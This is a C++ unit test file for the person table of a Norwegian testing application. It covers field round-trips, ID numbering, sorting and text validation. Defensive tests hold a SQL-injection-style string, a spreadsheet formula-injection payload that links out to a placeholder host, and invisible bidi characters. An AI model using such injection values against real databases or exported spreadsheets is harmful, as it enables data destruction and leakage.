#include "RecordingSink.h"
#include "TempDatabase.h"
#include "report/TablesDocument.h"
#include "store/tables/ListedLines.h"
#include "store/tables/PersonTable.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <string>
#include <vector>

using namespace tavlo;
using tavlo::test::RecordingSink;
using tavlo::test::TempDatabase;

namespace {

PersonalData person(const QString& name, Date test, Date born, int sex)
{
    PersonalData p;
    p.NAMN = name;
    p.TESTLEDARE = QStringLiteral("Testleder ") + name.left(1);
    p.TESTDATE = test;
    p.BORNDATE = born;
    p.SEX = sex;
    p.OTHER = name + QStringLiteral(" annet");
    p.SKOLA = QStringLiteral("Skole ") + name;
    p.NATIONALITET = QStringLiteral("Norsk");
    p.HOMELANGUAGE = name.right(2);
    return p;
}

std::vector<PersonListRow> list(Database& db, int key, bool descending)
{
    std::vector<PersonListRow> rows;
    EXPECT_EQ(ListPersons(db, key, descending, [&](const PersonListRow& r) { rows.push_back(r); }), 1);
    return rows;
}

} // namespace

TEST(PersonTable, EveryFieldRoundTripsUnchanged)
{
    TempDatabase t;
    RecordingSink sink;
    PersonalData p;
    p.NAMN = QStringLiteral("Åse Ødegård O'Neil, \"Æsj\"");
    p.ADRESS = QStringLiteral("Storgata 1; 0155 Oslo");
    p.TELEFON = QStringLiteral("0047 22 00 00 00 +");
    p.NATIONALITET = QStringLiteral("Norsk");
    p.HOMELANGUAGE = QStringLiteral("Nordsamisk");
    p.SKOLA = QStringLiteral("Skolen %s %d \\ ' -- DROP TABLE TESTPERSON");
    p.KLASS = QStringLiteral("3B");
    p.TESTAD_VID = QStringLiteral("BUP Øst");
    p.TESTLEDARE = QString(49, QChar(u'å'));
    p.SEX = 2;
    p.AGE = 0;
    p.TESTDATE = {2012, 3, 24};
    p.BORNDATE = {2004, 2, 29};
    p.HANDEDNESS = 0;
    p.OTHER = QStringLiteral("€ – “sitat” … ‰");
    ASSERT_EQ(DoInsertPD(t.db, p), 1);
    ASSERT_GT(p.ID, 0);

    PersonalData back;
    ASSERT_EQ(ReadPerson(t.db, back, p.ID), 1);
    EXPECT_EQ(back, p);
    EXPECT_TRUE(sink.messages.isEmpty()) << sink.texts().join(u'\n').toStdString();

    // Changed and written back: every field follows, the number stays.
    p.NAMN = QStringLiteral("Per");
    p.SEX = 1;
    p.AGE = -9;
    p.HANDEDNESS = 4;
    p.BORNDATE = {2005, 12, 31};
    p.OTHER.clear();
    ASSERT_EQ(UpdatePerson(t.db, p), 1);
    ASSERT_EQ(ReadPerson(t.db, back, p.ID), 1);
    EXPECT_EQ(back, p);
}

TEST(PersonTable, TextsThatCannotBeStoredAreRefusedBeforeTheDatabase)
{
    TempDatabase t;
    RecordingSink sink;
    const int counterBefore = NextPersonId(t.db);
    struct Case {
        QString name;
        QString expected;
    };
    const QString formula = QStringLiteral(
        "Feltet \"Navn\" kan ikke begynne med =, +, - eller @, fordi eksportfilen åpnes i regneark, som leser en slik "
        "tekst som en formel og kjører den. Fjern tegnet, eller skriv teksten på en annen måte.");
    const Case cases[] = {
        {QString(50, QChar(u'a')), QStringLiteral("Teksten i feltet \"Navn\" er for lang. Feltet kan ha høyst 49 tegn.")},
        // A spreadsheet opening the export would run these.
        {QStringLiteral("=HYPERLINK(\"http://x.invalid/?\"&B2,\"klikk\")"), formula},
        {QStringLiteral("+Ola"), formula},
        {QStringLiteral("-Ola"), formula},
        {QStringLiteral("@Ola"), formula},
        // Latin letters are stored (Ł, č, ŋ); another script's are not.
        {QStringLiteral("Дмитрий"), QStringLiteral("Feltet \"Navn\" inneholder tegnet \"Д\", som ikke kan lagres. "
                                                   "Fjern eller erstatt tegnet.")},
        {QStringLiteral("Tab\there"), QStringLiteral("Feltet \"Navn\" inneholder tegnet \"U+0009\", som ikke kan lagres. "
                                                     "Fjern eller erstatt tegnet.")},
        {QStringLiteral("😀"), QStringLiteral("Feltet \"Navn\" inneholder tegnet \"😀\", som ikke kan lagres. "
                                             "Fjern eller erstatt tegnet.")},
        // Invisible characters go by their code: printed, they would hide or turn the message.
        {QStringLiteral("Ola\u202Enesnamroh"), QStringLiteral("Feltet \"Navn\" inneholder tegnet \"U+202E\", som ikke kan "
                                                            "lagres. Fjern eller erstatt tegnet.")},
        {QStringLiteral("Ola\u200BHansen"), QStringLiteral("Feltet \"Navn\" inneholder tegnet \"U+200B\", som ikke kan "
                                                         "lagres. Fjern eller erstatt tegnet.")},
    };
    for (const Case& c : cases) {
        sink.messages.clear();
        PersonalData p = person(c.name, {2012, 1, 1}, {2005, 1, 1}, 1);
        EXPECT_EQ(DoInsertPD(t.db, p), 0);
        EXPECT_EQ(p.ID, 0);
        ASSERT_EQ(sink.messages.size(), 1);
        EXPECT_EQ(sink.messages[0].text, c.expected);
        EXPECT_EQ(sink.messages[0].caption, QStringLiteral("TAVLO-II"));
    }
    EXPECT_EQ(NextPersonId(t.db), counterBefore);
    EXPECT_TRUE(list(t.db, 0, false).empty());

    // The last field of the form is checked too, and 49 characters of Windows-1252 fit.
    PersonalData p = person(QStringLiteral("Kari"), {2012, 1, 1}, {2005, 1, 1}, 1);
    p.NAMN = QString(49, QChar(u'Æ'));
    p.OTHER = QStringLiteral("ok ✓");
    sink.messages.clear();
    EXPECT_EQ(DoInsertPD(t.db, p), 0);
    EXPECT_TRUE(sink.texts().value(0).contains(u"\"Annet\""));
    p.OTHER = QStringLiteral("ok");
    EXPECT_EQ(DoInsertPD(t.db, p), 1);
}

TEST(PersonTable, NumbersAreConsecutiveAndNeverReused)
{
    TempDatabase t;
    RecordingSink sink;
    EXPECT_EQ(NextPersonId(t.db), 0);
    PersonalData a = person(QStringLiteral("A"), {2012, 1, 1}, {2005, 1, 1}, 1);
    PersonalData b = person(QStringLiteral("B"), {2012, 1, 1}, {2005, 1, 1}, 1);
    PersonalData c = person(QStringLiteral("C"), {2012, 1, 1}, {2005, 1, 1}, 1);
    ASSERT_EQ(DoInsertPD(t.db, a), 1);
    ASSERT_EQ(DoInsertPD(t.db, b), 1);
    EXPECT_EQ(b.ID, a.ID + 1);
    ASSERT_EQ(DeletePerson(t.db, b.ID), 1);
    ASSERT_EQ(DoInsertPD(t.db, c), 1);
    EXPECT_EQ(c.ID, b.ID + 1);
    EXPECT_EQ(NextPersonId(t.db), c.ID);

    // A row put in by another tool above the counter is stepped over, never collided with.
    t.exec(QStringLiteral("INSERT INTO TESTPERSON (ID, NAMN) VALUES (40, 'Lagt inn utenfra')"));
    PersonalData d = person(QStringLiteral("D"), {2012, 1, 1}, {2005, 1, 1}, 1);
    ASSERT_EQ(DoInsertPD(t.db, d), 1);
    EXPECT_EQ(d.ID, 41);
    EXPECT_TRUE(sink.messages.isEmpty()) << sink.texts().join(u'\n').toStdString();
}

TEST(PersonTable, ReadingAMissingPersonSaysSoAndChangesNothing)
{
    TempDatabase t;
    RecordingSink sink;
    PersonalData p = person(QStringLiteral("Kari"), {2012, 1, 1}, {2005, 1, 1}, 2);
    const PersonalData before = p;
    EXPECT_EQ(ReadPerson(t.db, p, 77), 0);
    EXPECT_EQ(p, before);
    ASSERT_EQ(sink.messages.size(), 1);
    EXPECT_FALSE(sink.messages[0].text.isEmpty());
}

TEST(PersonTable, EverySortKeyInBothDirections)
{
    TempDatabase t;
    RecordingSink sink;
    // Dates chosen so that their displayed text (dd.mm.yyyy) sorts differently from the dates.
    std::vector<PersonalData> people = {
        person(QStringLiteral("Bjørn"), {2012, 1, 2}, {2004, 12, 15}, 1),
        person(QStringLiteral("anne"), {2011, 12, 15}, {2006, 1, 2}, 2),
        person(QStringLiteral("Cecilie"), {2012, 6, 30}, {2005, 6, 1}, 2),
        person(QStringLiteral("David"), {2010, 3, 1}, {2003, 3, 1}, 1),
    };
    people[3].NATIONALITET = QStringLiteral("Dansk");
    for (PersonalData& p : people)
        ASSERT_EQ(DoInsertPD(t.db, p), 1);

    struct Expectation {
        int key;
        std::function<bool(const PersonListRow&, const PersonListRow&)> before;
    };
    const auto dateLess = [](Date a, Date b) {
        return std::tie(a.year, a.month, a.day) < std::tie(b.year, b.month, b.day);
    };
    const auto textLess = [](const QString& a, const QString& b) { return a.compare(b, Qt::CaseInsensitive) < 0; };
    const Expectation expectations[] = {
        {0, [&](auto& a, auto& b) { return textLess(a.NAMN, b.NAMN); }},
        {1, [&](auto& a, auto& b) { return textLess(a.TESTLEDARE, b.TESTLEDARE); }},
        {2, [&](auto& a, auto& b) { return dateLess(a.TESTDATE, b.TESTDATE); }},
        {3, [&](auto& a, auto& b) { return textLess(a.OTHER, b.OTHER); }},
        {4, [&](auto& a, auto& b) { return a.SEX < b.SEX; }},
        {5, [&](auto& a, auto& b) { return dateLess(a.BORNDATE, b.BORNDATE); }},
        {6, [&](auto& a, auto& b) { return textLess(a.SKOLA, b.SKOLA); }},
        {7, [&](auto& a, auto& b) { return textLess(a.NATIONALITET, b.NATIONALITET); }},
        {8, [&](auto& a, auto& b) { return textLess(a.HOMELANGUAGE, b.HOMELANGUAGE); }},
        {9, [&](auto& a, auto& b) { return a.ID < b.ID; }},
    };
    for (const Expectation& e : expectations) {
        for (const bool descending : {false, true}) {
            SCOPED_TRACE(std::string(PersonSortColumn(e.key)) + (descending ? " DESC" : " ASC"));
            const auto rows = list(t.db, e.key, descending);
            ASSERT_EQ(rows.size(), people.size());
            for (size_t i = 1; i < rows.size(); ++i) {
                const auto& earlier = rows[i - 1];
                const auto& later = rows[i];
                EXPECT_FALSE(descending ? e.before(earlier, later) : e.before(later, earlier))
                    << earlier.NAMN.toStdString() << " before " << later.NAMN.toStdString();
            }
        }
    }
    // Girls (2) first when sex is sorted descending; the list carries the fields it shows.
    const auto bySex = list(t.db, 4, true);
    EXPECT_EQ(bySex.front().SEX, 2);
    EXPECT_EQ(bySex.back().SEX, 1);
    const auto byDate = list(t.db, 2, false);
    EXPECT_EQ(byDate.front().NAMN, QStringLiteral("David"));
    EXPECT_EQ(byDate[1].NAMN, QStringLiteral("anne"));
    EXPECT_EQ(byDate[1].TESTDATE, (Date{2011, 12, 15}));
    EXPECT_EQ(byDate[1].BORNDATE, (Date{2006, 1, 2}));
    EXPECT_EQ(byDate[1].SKOLA, QStringLiteral("Skole anne"));
    EXPECT_TRUE(sink.messages.isEmpty());
}

TEST(PersonTable, SortKeyOutsideTheListSortsByName)
{
    EXPECT_STREQ(PersonSortColumn(-1), "NAMN");
    EXPECT_STREQ(PersonSortColumn(10), "NAMN");
    EXPECT_STREQ(PersonSortColumn(9), "ID");
}

TEST(PersonTable, TextsOfEveryLengthAndNoTextReadWhole)
{
    // The driver hands a text over in pieces of 255 bytes: every length around one piece and
    // beyond, a two-byte letter across the cut, an empty text and none at all.
    const QString aa = QStringLiteral("å");
    const struct {
        const char* what;
        QString stored; // null: SQL NULL
    } cases[] = {
        {"empty", QStringLiteral("")},
        {"none", QString()},
        {"254 bytes", QString(254, u'x')},
        {"255 bytes", QString(255, u'x')},
        {"256 bytes", QString(256, u'x')},
        {"a letter across the cut", QString(254, u'x') + aa + QStringLiteral("yz")},
        {"three pieces of letters", QString(300, QChar(u'å'))},
    };
    TempDatabase t;
    RecordingSink sink;
    PersonalData p = person(QStringLiteral("Kari"), {2012, 3, 24}, {2004, 2, 29}, 1);
    ASSERT_EQ(DoInsertPD(t.db, p), 1);
    for (const auto& c : cases) {
        SCOPED_TRACE(c.what);
        Statement s(t.db);
        if (c.stored.isNull())
            ASSERT_TRUE(s.execDirect(QStringLiteral("UPDATE TESTPERSON SET OTHER = NULL")));
        else
            ASSERT_TRUE(s.prepare(QStringLiteral("UPDATE TESTPERSON SET OTHER = ?")) && s.bindText(1, c.stored) && s.execute());
        PersonalData read;
        ASSERT_EQ(ReadPerson(t.db, read, p.ID), 1);
        EXPECT_EQ(read.OTHER, c.stored);
        EXPECT_EQ(read.OTHER.isEmpty(), c.stored.isEmpty());
        const std::vector<PersonListRow> listed = list(t.db, 9, false);
        ASSERT_EQ(listed.size(), 1u);
        EXPECT_EQ(listed[0].OTHER, c.stored);
    }
    EXPECT_TRUE(sink.messages.isEmpty());
}

TEST(PersonTable, EveryOrderOfTheListReadsWhatOtherToolsStoreAsReadPersonDoes)
{
    // The list reads many rows at a time; a person's own reading one value at a time. Texts
    // past the bytes read at once (in some rows only), empty texts and NULLs, dates that are
    // not ISO, other sexes; rows enough for several reads.
    TempDatabase t;
    t.exec(QStringLiteral(
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 150) "
        "INSERT INTO TESTPERSON (ID, NAMN, TESTLEDARE, OTHER, SKOLA, NATIONALITET, HOMELANGUAGE, SEX, TESTDATE, "
        "BORNDATE) SELECT i * 3, "
        "CASE i % 4 WHEN 0 THEN substr(replace(hex(zeroblob(200)), '00', 'Åse'), 1, 80 + i * 2) "
        "WHEN 1 THEN NULL WHEN 2 THEN '' ELSE 'ærlig ' || i END, "
        "CASE i % 3 WHEN 0 THEN 'Leder' ELSE substr(replace(hex(zeroblob(200)), '00', 'xy'), 1, i * 3) END, "
        "CASE WHEN i % 5 = 0 THEN NULL ELSE 'Annet ' || i END, "
        "'Skole ' || (i % 4), 'norsk', 'språk', "
        "CASE i % 5 WHEN 3 THEN 'x' WHEN 4 THEN NULL ELSE i % 3 END, "
        "CASE i % 6 WHEN 0 THEN '24.03.2012' WHEN 1 THEN NULL ELSE '2012-0' || (1 + i % 9) || '-1' || (i % 10) END, "
        "'2005-05-0' || (1 + i % 9) FROM n"));
    std::map<int, PersonalData> read;
    for (int i = 1; i <= 150; ++i)
        ASSERT_EQ(ReadPerson(t.db, read[i * 3], i * 3), 1);
    for (int key = 0; key < kPersonSortKeys; ++key) {
        for (const bool descending : {false, true}) {
            SCOPED_TRACE(std::string(PersonSortColumn(key)) + (descending ? " descending" : " ascending"));
            const std::vector<PersonListRow> rows = list(t.db, key, descending);
            ASSERT_EQ(rows.size(), 150u);
            for (const PersonListRow& row : rows) {
                const PersonalData& p = read[row.ID];
                ASSERT_EQ(row.ID, p.ID);
                EXPECT_EQ(row.NAMN, p.NAMN);
                EXPECT_EQ(row.TESTLEDARE, p.TESTLEDARE);
                EXPECT_EQ(row.TESTDATE, p.TESTDATE);
                EXPECT_EQ(row.OTHER, p.OTHER);
                EXPECT_EQ(row.SEX, p.SEX);
                EXPECT_EQ(row.BORNDATE, p.BORNDATE);
                EXPECT_EQ(row.SKOLA, p.SKOLA);
                EXPECT_EQ(row.NATIONALITET, p.NATIONALITET);
                EXPECT_EQ(row.HOMELANGUAGE, p.HOMELANGUAGE);
            }
        }
    }
}

TEST(ListField, TheBytesOfATextAreWhatQStringWouldCarry)
{
    // Each as the list printed it through QString, whichever way it is printed now.
    const struct {
        const char* why;
        QByteArray bytes;
    } texts[] = {
        {"nothing", {}},
        {"ASCII", "Kari Nordmann"},
        {"Norwegian letters", "\xc3\x86rlig \xc3\x98yvind \xc3\x85se"},
        {"Sami letters", "\xc4\x8d\xc4\x91\xc5\x8b\xc5\xa1\xc5\xa7\xc5\xbe"},
        {"breaks", "to\tlinjer\nher\r"},
        {"a byte order mark first", "\xef\xbb\xbfKari"},
        {"a byte order mark later", "Kari\xef\xbb\xbf"},
        {"a noncharacter", "a\xef\xbf\xbe"},
        {"the last code point", "\xf4\x8f\xbf\xbf"},
        {"past the last code point", "\xf4\x90\x80\x80"},
        {"a lead byte past F4", "\xf5\x80\x80\x80"},
        {"a surrogate", "\xed\xa0\x80"},
        {"the last before the surrogates", "\xed\x9f\xbf"},
        {"an overlong two-byte form", "\xc0\xaf"},
        {"an overlong three-byte form", "\xe0\x80\xaf"},
        {"an overlong four-byte form", "\xf0\x80\x80\xaf"},
        {"the first three-byte form", "\xe0\xa0\x80"},
        {"the first four-byte form", "\xf0\x90\x80\x80"},
        {"a cut character", "a\xc3"},
        {"a cut character before a break", "a\xe2\x82\t"},
        {"a continuation alone", "\x80" "a"},
        {"a lead byte without its continuation", "\xc3" "a"},
        {"a NUL", QByteArray("a\0b", 3)},
        {"an emoji", "\xf0\x9f\x98\x80"},
    };
    for (const auto& t : texts) {
        SCOPED_TRACE(t.why);
        std::string line = "before";
        AppendListField(line, QByteArrayView(t.bytes));
        EXPECT_EQ(QByteArray::fromStdString(line), "before" + TabSeparatedField(QString::fromUtf8(t.bytes)).toUtf8());
    }
}
